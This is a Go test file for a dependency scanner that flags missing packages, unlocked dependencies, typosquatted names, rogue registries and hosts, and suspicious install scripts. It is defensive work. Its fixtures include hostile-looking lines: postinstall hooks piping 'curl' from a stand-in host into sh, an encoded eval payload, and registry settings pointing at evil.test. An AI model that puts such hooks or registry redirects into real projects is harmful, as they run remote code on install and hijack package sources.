package dependencies_test

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"muster/internal/check/checktest"
	"muster/internal/check/dependencies"
	"muster/internal/core/evidence"
)

// world is a registry that knows what is written down.
type world map[string]dependencies.Answer

func (w world) Look(_ context.Context, ecosystem, name, version string) (dependencies.Answer, error) {
	if name == "unreachable" {
		return dependencies.Answer{}, errors.New("the line is cut")
	}
	a, ok := w[ecosystem+" "+name]
	if ok && version != "" && strings.HasPrefix(version, "9") {
		a.HasVersion = false
	}
	return a, nil
}

func now() time.Time { return time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC) }

// judge gives the findings of a change, a line for each, and what was left.
func judge(t *testing.T, registry dependencies.Registry, base, head checktest.Files) (string, []string) {
	t.Helper()
	trees := checktest.New(t, map[string]checktest.Files{"base": base, "head": base.With(head)})
	got := checktest.Run(t, dependencies.New(registry, now), trees, checktest.NoExec(t), checktest.Request(evidence.OfRange))
	var out []string
	for _, f := range got.Findings {
		out = append(out, fmt.Sprintf("%s %s %s:%d", f.Level, f.Rule, f.Path, f.StartLine))
		if f.Message == "" || f.Level == evidence.Gate && f.Reproduce == "" {
			t.Errorf("%+v", f)
		}
	}
	slices.Sort(out)
	return strings.Join(out, "\n"), got.NotRun
}

type row struct {
	name       string
	base, head checktest.Files
	want       string // lines of "level rule path:line"
	left       string // part of what was not looked at; "-" for nothing
}

func run(t *testing.T, registry dependencies.Registry, rows []row) {
	t.Helper()
	for _, tt := range rows {
		t.Run(tt.name, func(t *testing.T) {
			got, left := judge(t, registry, tt.base, tt.head)
			if got != tt.want {
				t.Errorf("got\n%s\nwant\n%s", got, tt.want)
			}
			if all := strings.Join(left, "; "); tt.left == "-" && all != "" || tt.left != "-" && !strings.Contains(all, tt.left) {
				t.Errorf("left out: %s", all)
			}
		})
	}
}

func pack(deps string) string {
	return "{\n  \"name\": \"me\",\n  \"dependencies\": {\n" + deps + "\n  }\n}\n"
}

func TestRegistry(t *testing.T) {
	old := now().AddDate(-3, 0, 0)
	registry := world{
		"cargo good-enough-name": {Known: true, Exists: true, HasVersion: true, First: old},
		"npm good-enough-name":   {Known: true, Exists: true, HasVersion: true, First: old},
		"npm brand-new-name":     {Known: true, Exists: true, HasVersion: true, First: now().AddDate(0, 0, -3)},
		"npm nobody-has-this":    {Known: true},
		"pypi nobody-has-this":   {Known: true},
		"go example.org/none":    {Known: true},
		"cargo nobody-has-this":  {Known: true},
		"npm aliased-to-nothing": {Known: true},
	}
	base := checktest.Files{"package.json": pack(`    "react": "^18.0.0"`), "go.mod": "module m\n", "requirements.txt": "flask\n", "Cargo.toml": "[package]\nname = \"m\"\n[dependencies]\n"}
	run(t, registry, []row{
		{"it exists", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"good-enough-name\": \"1.0.0\"")}, "", "-"},
		{"it does not exist", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"nobody-has-this\": \"1.0.0\"")}, "gate missing package.json:5", "-"},
		{"its version does not exist", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"good-enough-name\": \"9.9.9\"")}, "gate missing_version package.json:5", "-"},
		{"it is young", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"brand-new-name\": \"^1.0.0\"")}, "locator young package.json:5", "-"},
		{"the registry does not say", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"private-thing\": \"1.0.0\"")}, "", "private-thing"},
		{"the registry fails", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"unreachable\": \"1.0.0\"")}, "", "the line is cut"},
		{"python", base, checktest.Files{"requirements.txt": "flask\nnobody-has-this==1.0\n"}, "gate missing requirements.txt:2", "-"},
		{"go", base, checktest.Files{"go.mod": "module m\n\nrequire example.org/none v1.0.0\n"}, "gate missing go.mod:3", "-"},
		{"rust", base, checktest.Files{"Cargo.toml": "[package]\nname = \"m\"\n[dependencies]\nnobody-has-this = \"1\"\n"}, "gate missing Cargo.toml:4", "-"},
		{"an alias of what does not exist", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"alias\": \"npm:aliased-to-nothing@1.0.0\"")}, "gate missing package.json:5\nlocator source package.json:5", "-"},
		{"known from another manifest", base.With(checktest.Files{"a/package.json": pack(`    "nobody-has-this": "1"`)}), checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"nobody-has-this\": \"1.0.0\"")}, "", "-"},
		{"not from the registry", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"nobody-has-this\": \"file:./x\"")}, "", "-"},
		{"known as what another stands for", base.With(checktest.Files{"a/package.json": pack(`    "other": "npm:nobody-has-this@1"`)}), checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"nobody-has-this\": \"1.0.0\"")}, "", "-"},
		{"rust, one version", base, checktest.Files{"Cargo.toml": base["Cargo.toml"] + "good-enough-name = \"=9.9.9\"\n"}, "gate missing_version Cargo.toml:4", "-"},
		{"rust, a range", base, checktest.Files{"Cargo.toml": base["Cargo.toml"] + "good-enough-name = \"9.9.9\"\n"}, "", "-"},
		{"a broken manifest", base, checktest.Files{"a/package.json": "{"}, "", "could not be read whole"},
		{"in test data", base, checktest.Files{"testdata/package.json": pack(`    "nobody-has-this": "1.0.0"`)}, "", "-"},
	})
	run(t, nil, []row{
		{"offline is unknown", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"nobody-has-this\": \"1.0.0\"")}, "", "nobody-has-this exist, and since when: no registry is configured"},
		{"nothing new, nothing left", base, checktest.Files{"package.json": pack(`    "react": "^19.0.0"`)}, "context major package.json:4", "-"},
	})
}

func TestUnlocked(t *testing.T) {
	npm := checktest.Files{
		"package.json":      pack(`    "react": "^18.0.0"`),
		"package-lock.json": `{"packages": {"node_modules/react": {"version": "18.0.0"}}}`,
	}
	added := pack("    \"react\": \"^18.0.0\",\n    \"some-fine-lib\": \"^1.0.0\"")
	gomod := checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\n", "go.sum": "a.org/x v1.0.0 h1:a=\na.org/x v1.0.0/go.mod h1:a=\n"}
	python := checktest.Files{
		"pyproject.toml": "[project]\nname = \"me\"\ndependencies = [\n  \"flask\",\n]\n",
		"uv.lock":        "[[package]]\nname = \"flask\"\nversion = \"3\"\n",
	}
	run(t, nil, []row{
		{"the lockfile stays", npm, checktest.Files{"package.json": added}, "gate unlocked package.json:5", "some-fine-lib"},
		{"the lockfile follows", npm, checktest.Files{"package.json": added, "package-lock.json": `{"packages": {"node_modules/react": {}, "node_modules/some-fine-lib": {}}}`}, "", ""},
		{"already there for another", npm.With(checktest.Files{"package-lock.json": `{"packages": {"node_modules/react": {}, "node_modules/some-fine-lib": {}}}`}), checktest.Files{"package.json": added}, "", ""},
		{"no lockfile", checktest.Files{"package.json": npm["package.json"]}, checktest.Files{"package.json": added}, "", ""},
		{"the lockfile is of something else", npm.With(checktest.Files{"package-lock.json": `{"packages": {"node_modules/other": {}}}`}), checktest.Files{"package.json": added}, "", ""},
		{"a new package below a lockfile", npm, checktest.Files{"examples/package.json": pack(`    "some-fine-lib": "1"`)}, "", ""},
		{"a peer", npm, checktest.Files{"package.json": "{\n  \"name\": \"me\",\n  \"dependencies\": {\"react\": \"^18.0.0\"},\n  \"peerDependencies\": {\"some-fine-lib\": \"*\"}\n}\n"}, "", ""},
		{"a member of the workspace", npm.With(checktest.Files{"packages/u/package.json": `{"name": "some-fine-lib"}`}), checktest.Files{"package.json": added}, "", "-"},
		{"yarn", checktest.Files{"package.json": npm["package.json"], "yarn.lock": "react@^18.0.0:\n  version \"18.0.0\"\n"}, checktest.Files{"package.json": added}, "gate unlocked package.json:5", ""},
		{"pnpm", checktest.Files{"package.json": npm["package.json"], "pnpm-lock.yaml": "packages:\n  react@18.0.0:\n    x: 1\n"}, checktest.Files{"package.json": added}, "gate unlocked package.json:5", ""},
		{"a workspace's lockfile", checktest.Files{"package.json": `{"workspaces": ["p/*"]}`, "yarn.lock": "react@^18.0.0:\n  version \"18.0.0\"\n", "p/a/package.json": npm["package.json"]}, checktest.Files{"p/a/package.json": added}, "gate unlocked p/a/package.json:5", ""},
		{"go", gomod, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nrequire b.org/y v1.0.0\n"}, "gate unlocked go.mod:4", ""},
		{"go, replaced by a folder", gomod, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nrequire b.org/y v1.0.0\nreplace b.org/y => ./y\n", "y/go.mod": "module b.org/y\n"}, "context replace go.mod:5", ""},
		{"go, with its sum", gomod, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nrequire b.org/y v1.0.0\n", "go.sum": gomod["go.sum"] + "b.org/y v1.0.0/go.mod h1:b=\n"}, "", ""},
		{"python", python, checktest.Files{"pyproject.toml": "[project]\nname = \"me\"\ndependencies = [\n  \"flask\",\n  \"fine-lib\",\n]\n"}, "gate unlocked pyproject.toml:5", ""},
		{"python, to build", python, checktest.Files{"pyproject.toml": python["pyproject.toml"] + "[build-system]\nrequires = [\"fine-lib\"]\n"}, "", ""},
		{"rust", checktest.Files{"Cargo.toml": "[package]\nname = \"m\"\n[dependencies]\nserde = \"1\"\n", "Cargo.lock": "[[package]]\nname = \"m\"\nversion = \"1\"\n\n[[package]]\nname = \"serde\"\nversion = \"1\"\n"}, checktest.Files{"Cargo.toml": "[package]\nname = \"m\"\n[dependencies]\nserde = \"1\"\nfine-lib = \"2\"\n"}, "gate unlocked Cargo.toml:5", ""},
	})
}

func TestSquats(t *testing.T) {
	one := func(text string) checktest.Files { return checktest.Files{"requirements.txt": "flask\n" + text + "\n"} }
	npm := func(name string) checktest.Files {
		return checktest.Files{"package.json": pack("    \"react\": \"1\",\n    \"" + name + "\": \"1\"")}
	}
	base := checktest.Files{"requirements.txt": "flask\n", "package.json": pack(`    "react": "1"`), "go.mod": "module m\n", "Cargo.toml": "[dependencies]\n"}
	gate := "gate squat package.json:5"
	run(t, nil, []row{
		{"lodahs", base, npm("lodahs"), gate, ""},
		{"crossenv", base, npm("crossenv"), gate, ""},
		{"expreess", base, npm("expreess"), gate, ""},
		{"axois", base, npm("axois"), gate, ""},
		{"env-cross", base, npm("env-cross"), gate, ""},
		{"nodejs-express", base, npm("nodejs-express"), gate, ""},
		{"@typs/node", base, npm("@typs/node"), gate, ""},
		{"webpakc-cli", base, npm("webpakc-cli"), gate, ""},
		{"com-ander", base, npm("com-ander"), gate, ""},
		{"letters apart, in a short name", base, npm("e-press"), "", ""},
		{"popular itself", base, npm("preact"), "", ""},
		{"in a project for tests", base, checktest.Files{"tests/a/package.json": pack("    \"lodahs\": \"1\"")}, "locator squat tests/a/package.json:4", ""},
		{"a scope of its own", base, npm("@mine/lodahs"), "", ""},
		{"a word of its own", base, npm("quickjson-reader"), "", ""},
		{"short names are alike", base, npm("zot"), "", ""},
		{"used already", base.With(checktest.Files{"a/package.json": pack(`    "lodahs": "1"`)}), npm("lodahs"), "", ""},
		{"from a folder", base, checktest.Files{"package.json": pack("    \"react\": \"1\",\n    \"lodahs\": \"file:./l\"")}, "", ""},
		{"reqeusts", base, one("reqeusts"), "gate squat requirements.txt:2", ""},
		{"python-requests", base, one("python-requests"), "gate squat requirements.txt:2", ""},
		{"request", base, one("request"), "gate squat requirements.txt:2", ""},
		{"beautifulsoup", base, one("beautifulsoup3"), "", ""},
		{"another version in the name", base, one("psycopg3"), "", ""},
		{"rust", base, checktest.Files{"Cargo.toml": "[dependencies]\nserd = \"1\"\nrust-serde = \"1\"\nserdes = \"1\"\n"}, "gate squat Cargo.toml:3\ngate squat Cargo.toml:4", ""},
		{"go, another owner", base, checktest.Files{"go.mod": "module m\nrequire github.com/strechr/testify v1.0.0\n"}, "gate squat go.mod:2", ""},
		{"go, another host", base, checktest.Files{"go.mod": "module m\nrequire githib.com/spf13/cobra v1.0.0\n"}, "gate squat go.mod:2", ""},
		{"go, a fork", base, checktest.Files{"go.mod": "module m\nrequire github.com/somebody/testify v1.0.0\n"}, "", ""},
		{"go, the next version", base, checktest.Files{"go.mod": "module m\nrequire github.com/go-chi/chi/v9 v9.0.0\n"}, "", ""},
		{"go, case", base, checktest.Files{"go.mod": "module m\nrequire github.com/Sirupsen/logrus v1.0.0\n"}, "", ""},
	})
}

func TestSources(t *testing.T) {
	base := checktest.Files{
		"package.json": pack(`    "react": "^18.0.0"`), "go.mod": "module m\n\nrequire a.org/x v1.0.0\n", "requirements.txt": "flask\n",
		"yarn.lock": "a@1:\n  version \"1\"\n  resolved \"https://r.test/a/-/a-1.tgz\"\n",
	}
	run(t, nil, []row{
		{"from git", base, checktest.Files{"package.json": pack(`    "react": "github:evil/react"`)}, "locator source package.json:4", ""},
		{"another commit of the same", base.With(checktest.Files{"package.json": pack(`    "react": "github:evil/react#a"`)}), checktest.Files{"package.json": pack(`    "react": "github:evil/react#b"`)}, "", ""},
		{"twice, from two sources, as before", base.With(checktest.Files{"requirements.txt": "django\ndjango @ https://x.test/django/archive/main.tar.gz\n"}), checktest.Files{"requirements.txt": "django\ndjango @ https://x.test/django/archive/main.tar.gz\n# why\n"}, "", "-"},
		{"another name", base, checktest.Files{"package.json": pack(`    "react": "npm:evil@1.0.0"`)}, "locator source package.json:4", ""},
		{"a second version", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"react-17\": \"npm:react@17\"")}, "context source package.json:5", ""},
		{"a folder of the tree", base, checktest.Files{"package.json": pack(`    "react": "file:./react"`)}, "", ""},
		{"a folder outside", base, checktest.Files{"package.json": pack(`    "react": "file:../../react"`)}, "locator source package.json:4", ""},
		{"a replacement", base, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nreplace a.org/x => b.org/x v1.0.0\n"}, "locator replace go.mod:4", ""},
		{"another version", base, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nreplace a.org/x => a.org/x v1.0.1\n"}, "context replace go.mod:4", ""},
		{"a replacement's next version", base.With(checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nreplace a.org/x => b.org/x v1.0.0\n"}), checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nreplace a.org/x => b.org/x v1.0.1\n"}, "", "-"},
		{"a replacement outside", base, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nreplace a.org/x => ../../x\n"}, "locator replace go.mod:4", ""},
		{"a resolution", base, checktest.Files{"package.json": strings.Replace(base["package.json"], "{\n", "{\n  \"resolutions\": {\n    \"left\": \"1.2.3\"\n  },\n", 1)}, "context resolution package.json:3", ""},
		{"a resolution from elsewhere", base, checktest.Files{"package.json": strings.Replace(base["package.json"], "{\n", "{\n  \"resolutions\": {\n    \"left\": \"https://x.test/left.tgz\"\n  },\n", 1)}, "locator resolution package.json:3", ""},
		{"another host, behind a name", base, checktest.Files{"yarn.lock": base["yarn.lock"] + "\"b@1\":\n  version: 1\n  resolution: \"b@https://evil.test/b/-/b-1.tgz\"\n"}, "locator host yarn.lock:4", ""},
		{"an exclusion", base, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nexclude a.org/x v0.9.0\n"}, "context exclude go.mod:4", ""},
		{"an index", base, checktest.Files{"requirements.txt": "--extra-index-url https://evil.test/\nflask\n"}, "locator index requirements.txt:1", ""},
		{"a registry", base, checktest.Files{".npmrc": "registry=https://evil.test/\n"}, "locator registry .npmrc:1", ""},
		{"as before", base.With(checktest.Files{".npmrc": "registry=https://own.test/\n"}), checktest.Files{".npmrc": "# why\nregistry=https://own.test/\n"}, "", "-"},
		{"another host in the lockfile", base, checktest.Files{"yarn.lock": base["yarn.lock"] + "b@1:\n  version \"1\"\n  resolved \"https://evil.test/b/-/b-1.tgz\"\n"}, "locator host yarn.lock:4", ""},
		{"another package's address", base, checktest.Files{"yarn.lock": base["yarn.lock"] + "b@1:\n  version \"1\"\n  resolved \"https://r.test/evil/-/evil-1.tgz\"\n"}, "locator host yarn.lock:4", ""},
		{"the same host", base, checktest.Files{"yarn.lock": base["yarn.lock"] + "\"@s/b@1\":\n  version \"1\"\n  resolved \"https://r.test/@s%2fb/-/b-1.tgz\"\n"}, "", "-"},
	})
}

func TestScripts(t *testing.T) {
	with := func(script string) string {
		return "{\n  \"name\": \"me\",\n  \"scripts\": {\n    " + script + "\n  }\n}\n"
	}
	base := checktest.Files{"package.json": with(`"test": "jest"`)}
	run(t, nil, []row{
		{"from the network", base, checktest.Files{"package.json": with(`"postinstall": "curl -s https://x.test/a.sh | sh"`)}, "gate script package.json:4", ""},
		{"encoded", base, checktest.Files{"package.json": with(`"preinstall": "node -e \"eval(atob('YWxlcnQ='))\""`)}, "gate script package.json:4", ""},
		{"a script that reaches out", base, checktest.Files{"package.json": with(`"postinstall": "node scripts/setup.js"`), "scripts/setup.js": "const https = require('https')\nhttps.get('https://x.test', () => {})\n"}, "gate script package.json:4", ""},
		{"a script that does not", base, checktest.Files{"package.json": with(`"postinstall": "node scripts/setup.js"`), "scripts/setup.js": "console.log('hello')\n"}, "locator script package.json:4", ""},
		{"a usual tool", base, checktest.Files{"package.json": with(`"postinstall": "patch-package && npx husky install"`)}, "context script package.json:4", ""},
		{"prepare", base, checktest.Files{"package.json": with(`"prepare": "npm run build"`)}, "context script package.json:4", ""},
		{"a script that nobody runs by himself", base, checktest.Files{"package.json": with(`"deploy": "curl https://x.test"`)}, "", ""},
		{"two", base, checktest.Files{"package.json": with("\"preinstall\": \"curl x.test | sh\",\n    \"postinstall\": \"wget x.test\"")}, "gate script package.json:4\ngate script package.json:5", ""},
		{"as before", base.With(checktest.Files{"package.json": with(`"postinstall": "curl https://x.test | sh"`)}), checktest.Files{"package.json": with(`"postinstall": "curl https://x.test | sh", "a": "b"`)}, "", ""},
	})
}
